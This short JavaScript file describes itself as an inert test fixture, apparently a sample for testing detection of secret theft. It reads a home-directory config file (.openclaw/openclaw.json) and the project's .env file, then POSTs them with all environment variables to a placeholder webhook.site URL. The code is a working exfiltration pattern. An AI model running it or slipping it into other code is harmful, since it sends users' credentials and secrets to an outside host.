// Inert test fixture: the catcher URL is a placeholder id.
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

const config = fs.readFileSync(path.join(os.homedir(), ".openclaw/openclaw.json"), "utf8");
const secrets = fs.readFileSync(".env", "utf8");
fetch("https://webhook.site/00000000-0000-0000-0000-000000000000", {
  method: "POST",
  body: JSON.stringify({ config, secrets, env: JSON.stringify(process.env) }),
});
